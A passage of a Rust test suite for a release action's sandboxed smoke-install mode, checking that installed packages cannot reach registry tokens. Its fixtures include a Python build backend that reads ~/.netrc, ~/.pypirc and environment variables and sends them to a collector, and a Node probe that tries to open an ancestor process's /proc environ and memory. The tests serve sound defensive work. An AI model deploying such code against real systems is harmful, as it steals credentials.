            ),
            ("index.js", "module.exports = require('@private/spy');\n"),
        ],
    );
    let run = Gha::new()
        .input("mode", "smoke-install")
        .input("packages", "app-broken.tgz")
        .input("expected-version", "1.2.3")
        .input("package-manager", "npm")
        .input("registry", &format!("{}/", server.base()))
        .input("registry-token", &token)
        .cwd(work.path())
        .run();
    run.assert_code(1);
    let error = run.commands("error").join("\n");
    assert!(
        error.contains("install scripts") && error.contains("@acme/app"),
        "{}",
        run.describe()
    );
}

/// A dependency published only as an sdist with an in-tree build backend: pip would run that
/// backend's code to learn the dependency's metadata, while the index credential sits in the
/// sandbox's `~/.netrc`. With a credential, smoke-install takes dependencies only as wheels, so
/// the backend never runs; the failure says why and what to do.
#[test]
fn an_sdist_dependency_never_builds_while_the_index_credential_is_present() {
    use crate::support::fault_server::{serve_private_project, FaultServer};
    const TOKEN: &str = "pypi-sdist-spy-token-4b8e1d";
    let server = FaultServer::start();
    let files = tempfile::tempdir().unwrap();
    let collector = Collector::start();
    let backend = format!(
        "{sink}import os\nfound = ['=== backend ran']\nfor f in (os.path.expanduser('~/.netrc'), os.path.expanduser('~/.pypirc')):\n    try:\n        found.append(f + '\\n' + open(f).read())\n    except OSError:\n        pass\nfound.append(repr(dict(os.environ)))\nsink('\\n'.join(found))\nraise RuntimeError('spy backend')\n",
        sink = collector.python_sink()
    );
    let sdist = crate::support::packages::sdist(
        files.path(),
        "acme_dep",
        "acme-dep",
        "1.0.0",
        &[
            (
                "pyproject.toml",
                "[build-system]\nrequires = []\nbuild-backend = \"spy_backend\"\nbackend-path = [\".\"]\n",
            ),
            ("spy_backend.py", &backend),
        ],
    );
    serve_private_project(&server, TOKEN, "acme-dep", &sdist);
    let work = tempfile::tempdir().unwrap();
    wheel(
        work.path(),
        "acme_sdk",
        "1.0.0",
        &[("acme_sdk/__init__.py", "import acme_dep\n")],
        &["acme-dep>=1.0"],
    );
    let run = Gha::new()
        .input("mode", "smoke-install")
        .input("packages", "acme_sdk-1.0.0-py3-none-any.whl")
        .input("expected-version", "1.0.0")
        .input("registry", &format!("{}/simple/", server.base()))
        .input("registry-token", TOKEN)
        .cwd(work.path())
        .run();
    let found = collector.received();
    assert!(
        !found.contains(TOKEN),
        "the sdist's build backend read the index credential:\n{found}"
    );
    assert!(
        found.is_empty(),
        "the sdist's build backend ran during the credentialed download"
    );
    run.assert_code(1);
    let error = run.commands("error").join("\n");
    assert!(
        error.contains("only as wheels") && error.contains("acme-dep"),
        "{}",
        run.describe()
    );
}

// ------------------------------------------------------------------ 6: the binary's memory

/// Package code that finds the binary among its ancestors (by command line) and tries to read
/// its exec-time environment and open its memory, sending what happened as JSON.
fn node_memory_probe(collector: &Collector) -> String {
    format!(
        r#"const fs = require('fs');
{sink}
const result = {{ found: false }};
let pid = process.ppid;
for (let i = 0; i < 64 && pid > 1; i++) {{
  const cmdline = fs.readFileSync(`/proc/${{pid}}/cmdline`, 'latin1');
  if (cmdline.includes('release-action')) {{
    result.found = true;
    for (const what of ['environ', 'mem']) {{
      try {{ fs.closeSync(fs.openSync(`/proc/${{pid}}/${{what}}`, 'r')); result[what] = 'opened'; }}
      catch (e) {{ result[what] = e.code; }}
    }}
    break;
  }}
  pid = Number(fs.readFileSync(`/proc/${{pid}}/status`, 'utf8').match(/^PPid:\s*(\d+)$/m)[1]);
}}
sink(JSON.stringify(result));
exports.ok = true;
"#,
        sink = collector.node_sink()
    )
}

/// Once the binary holds a secret in memory it is not dumpable: package code running as the same
/// (unprivileged) user can open neither its `/proc/<pid>/environ` nor its `/proc/<pid>/mem`,
/// which is also the `ptrace` attach check. The control run without a secret shows the probe
/// can open both, so the refusal is the binary's doing. (Tests run as root here, and root may
/// read any process: the binary runs as `nobody`.) This is the fallback's protection, where the
/// sandbox's namespaces are unavailable; inside them the binary is not even visible.
#[test]
fn package_code_cannot_read_the_binarys_memory_once_it_holds_a_secret() {
    use std::os::unix::fs::PermissionsExt;
    const NOBODY: u32 = 65534;
    let work = tempfile::tempdir().unwrap();
    std::fs::set_permissions(work.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let collector = Collector::start();
    npm_tarball(
        &work.path().join("probe-1.0.0.tgz"),
        &[
            (
                "package.json",
                r#"{"name": "probe", "version": "1.0.0", "main": "index.js"}"#,
            ),
            ("index.js", &node_memory_probe(&collector)),
        ],
    );
    let probe = |secret: Option<&str>| {
        let before = collector.received().len();
        let mut gha = Gha::new()
            .input("mode", "smoke-install")
            .input("packages", "probe-1.0.0.tgz")
            .input("expected-version", "1.0.0")
            .input("package-manager", "npm")
            .cwd(work.path());
        if let Some(secret) = secret {
            gha = gha.input("registry-token", secret);
        }
        let run = gha.uid(NOBODY).without_namespaces().run();
        run.assert_code(0);
        // One report per load (import, then require): the first is enough.
        let received = collector.received();
        let sent = received[before..]
            .trim()
            .lines()
            .next()
            .unwrap_or("")
            .to_string();
        let found: serde_json::Value = serde_json::from_str(&sent)
            .unwrap_or_else(|e| panic!("the probe did not report ({e}): {sent:?}"));
        assert_eq!(found["found"], true, "the probe did not find the binary");
        found
    };
    let open = probe(None);
    assert_eq!(
        (open["environ"].as_str(), open["mem"].as_str()),
        (Some("opened"), Some("opened")),
        "without a secret the probe should open both (else this test proves nothing): {open}"
    );
    let closed = probe(Some("npm_memoryPROBEtoken0123456789abcdef"));
    assert_eq!(
        (closed["environ"].as_str(), closed["mem"].as_str()),
        (Some("EACCES"), Some("EACCES")),
        "with a secret in memory: {closed}"
    );
}
